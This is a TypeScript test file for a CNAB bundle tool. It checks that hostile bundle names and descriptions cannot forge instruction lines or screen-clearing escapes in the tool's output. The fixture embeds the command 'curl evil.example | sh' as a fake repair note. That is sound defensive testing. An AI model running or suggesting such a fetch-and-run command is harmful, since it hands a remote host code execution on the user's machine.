import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { failureOf } from '../../src/cli/report.js';
import BundleShow from '../../src/commands/bundle/show.js';
import BundleValidate from '../../src/commands/bundle/validate.js';
import History from '../../src/commands/history.js';
import Install from '../../src/commands/install.js';
import Invoke from '../../src/commands/invoke.js';
import List from '../../src/commands/list.js';
import OutputsList from '../../src/commands/outputs/list.js';
import OutputsShow from '../../src/commands/outputs/show.js';
import Resume from '../../src/commands/resume.js';
import Show from '../../src/commands/show.js';
import Uninstall from '../../src/commands/uninstall.js';
import Upgrade from '../../src/commands/upgrade.js';
import Wait from '../../src/commands/wait.js';
import { CnabError } from '../../src/errors.js';
import { FakeDriver, type FakeRun } from '../helpers/fake-driver.js';
import { removeHome, temporaryHome } from '../helpers/run-cnab.js';
import { runInProcess } from '../helpers/run-command.js';

const FORGED = 'note: run this to repair it: curl evil.example | sh';
const evil = (text: string): string => `${text}\n\n${FORGED}\n\u001b[2J\r${FORGED}\u2028${FORGED}\u0085${FORGED}\nZ`;
/** What begins a line for a reader: also where it is indented, as our own suggestions are, and whatever ends a line. */
const LINE_ENDS = /\r\n|[\n\r\u0085\u2028\u2029\v\f]/;

/** Every name, title and description that a bundle may choose says something in our place. */
function hostile(more: object = {}): string {
  return JSON.stringify({
    schemaVersion: 'v1.2.0',
    name: 'app',
    version: '1.0.0',
    description: evil('it is an app'),
    keywords: [evil('k')],
    license: evil('MIT'),
    maintainers: [{ name: evil('me'), email: evil('m'), url: evil('u') }],
    invocationImages: [{ image: 'registry.example/app:1.0.0', imageType: 'oci' }],
    definitions: {
      [evil('text')]: { type: 'string', title: evil('t'), description: evil('d'), default: evil('value') },
      [evil('fixed')]: { type: 'string', readOnly: true },
    },
    parameters: {
      [evil('x')]: { definition: evil('text'), destination: { env: 'X' }, description: evil('d') },
      [evil('fixed')]: { definition: evil('fixed'), destination: { env: 'F' } },
      [evil('late')]: { definition: evil('text'), destination: { env: 'L' }, applyTo: ['uninstall', evil('act')] },
    },
    credentials: { [evil('cred')]: { env: 'C', description: evil('d') } },
    outputs: {
      [evil('out')]: { definition: evil('text'), path: '/cnab/app/outputs/o', description: evil('d') },
      [evil('none')]: { definition: evil('fixed'), path: '/cnab/app/outputs/n', applyTo: ['upgrade'] },
    },
    actions: { [evil('act')]: { title: evil('t'), description: evil('d'), modifies: true } },
    ...more,
  });
}

async function tool({ io, ...run }: FakeRun): Promise<{ warnings: readonly string[] }> {
  await run.posted();
  io.onProgress({ phase: 'waiting', detail: evil('waits') });
  await run.output(evil('out'), evil('value'));
  return { warnings: [evil('a warning')] };
}

const failing = (): Promise<{ status: 'failed'; exitCode: number; error: CnabError }> =>
  Promise.resolve({
    ...{ status: 'failed', exitCode: 1 },
    error: new CnabError('bundle-failed', evil('it failed'), { details: [evil('d')], suggestions: [evil('s')] }),
  });

describe('a bundle whose every name and text holds lines that look like ours', () => {
  let home: string;
  beforeEach(() => {
    home = temporaryHome();
    writeFileSync(join(home, 'bundle.json'), hostile());
    writeFileSync(join(home, 'v2.json'), hostile({ version: '2.0.0', parameters: {}, actions: {} }));
    writeFileSync(
      join(home, 'broken.json'),
      hostile({ [evil('key')]: 1, outputs: { [evil('o')]: { path: evil('/x') } } }),
    );
    writeFileSync(join(home, 'named.json'), hostile({ name: evil('app'), version: evil('1') }));
    writeFileSync(join(home, 'needy.json'), hostile({ requiredExtensions: [evil('ext')] }));
    const required = { required: true, description: evil('d') };
    writeFileSync(
      join(home, 'asks.json'),
      hostile({
        parameters: { [evil('p')]: { definition: evil('fixed'), destination: { env: 'P' }, ...required } },
        credentials: { [evil('c')]: { env: 'C', ...required } },
      }),
    );
    writeFileSync(join(home, 'params.yaml'), JSON.stringify({ [evil('x')]: 'hello', [evil('fixed')]: evil('one') }));
    writeFileSync(join(home, 'late.yaml'), JSON.stringify({ [evil('late')]: 'x', [evil('fixed')]: 'two' }));
    writeFileSync(join(home, 'unknown.yaml'), JSON.stringify({ [evil('what')]: 1, [evil('x')]: 7 }));
  });
  afterEach(() => removeHome(home));

  type Command = Parameters<typeof runInProcess>[0];
  /** Runs it as text and as a document (JSON has no line ends in a text), and looks at all that it says. Resolves with that. */
  async function run(command: Command, id: string, argv: string[], life = tool): Promise<string> {
    let all = '';
    for (const [format, env] of [
      ['table', {}],
      ['yaml', { CI: 'true', TF_BUILD: 'True' }],
    ] as const) {
      const withFormat = id === 'outputs:show' ? argv : [...argv, '-o', format];
      const ran = await runInProcess(command, id, withFormat, { home, env, driver: new FakeDriver(life) });
      const failure = ran.thrown === undefined ? '' : failureOf(ran.thrown, { debug: true, version: '1' }).text;
      const said = [ran.stdout, ran.stderr, failure].join('\n');
      const forged = said.split(LINE_ENDS).filter((line) => line.trim().startsWith('note: run this'));
      assert.deepEqual(forged, [], `${id} ${withFormat.join(' ')}:\n${said}`);
      assert.doesNotMatch(said, /\u001b\[2J/, id);
      all += said;
    }
    return all;
  }

  it('is shown and validated in lines of ours only', async () => {
    assert.match(await run(BundleShow, 'bundle:show', ['bundle.json']), /curl evil\.example/);
    for (const file of ['bundle.json', 'broken.json', 'named.json', 'needy.json', 'asks.json'])
      assert.match(await run(BundleValidate, 'bundle:validate', [file]), /bundle|valid/);
  });

  it('is refused in lines of ours only', async () => {
    const refused = {
      'broken.json': [],
      'named.json': [],
      'needy.json': [],
      'asks.json': [],
      'bundle.json': ['--params', 'unknown.yaml'],
    };
    for (const [file, more] of Object.entries(refused))
      assert.match(await run(Install, 'install', ['app', file, ...more]), /^error: .*/m);
  });

  it('is run, looked at and removed in lines of ours only', async () => {
    await run(Install, 'install', ['app', 'bundle.json', '--params', 'params.yaml', '--force']);
    const kept = await run(Upgrade, 'upgrade', ['app', 'bundle.json', '--params', 'late.yaml', '--dry-run']);
    assert.match(kept, /warning: parameter "fixed.*is fixed since the installation/);
    assert.match(kept, /warning: parameter "late.*does not apply to upgrade/);
    assert.match(await run(Upgrade, 'upgrade', ['app', 'v2.json', '--dry-run']), /warning: the bundle no longer has/);
    assert.match(await run(Upgrade, 'upgrade', ['app']), /warning: a warning/);
    await run(Upgrade, 'upgrade', ['app'], failing as never);
    await run(Invoke, 'invoke', ['app', evil('act')]);
    await run(Invoke, 'invoke', ['app', evil('other')]);
    assert.match(await run(Show, 'show', ['app']), /curl evil\.example/);
    assert.match(await run(OutputsList, 'outputs:list', ['app']), /curl evil\.example/);
    await run(OutputsShow, 'outputs:show', ['app', evil('nothing')]);
    await run(History, 'history', ['app']);
    await run(List, 'list', []);
    await run(Wait, 'wait', ['app']);
    await run(Resume, 'resume', ['app']);
    await run(Uninstall, 'uninstall', ['app']);
  });
});
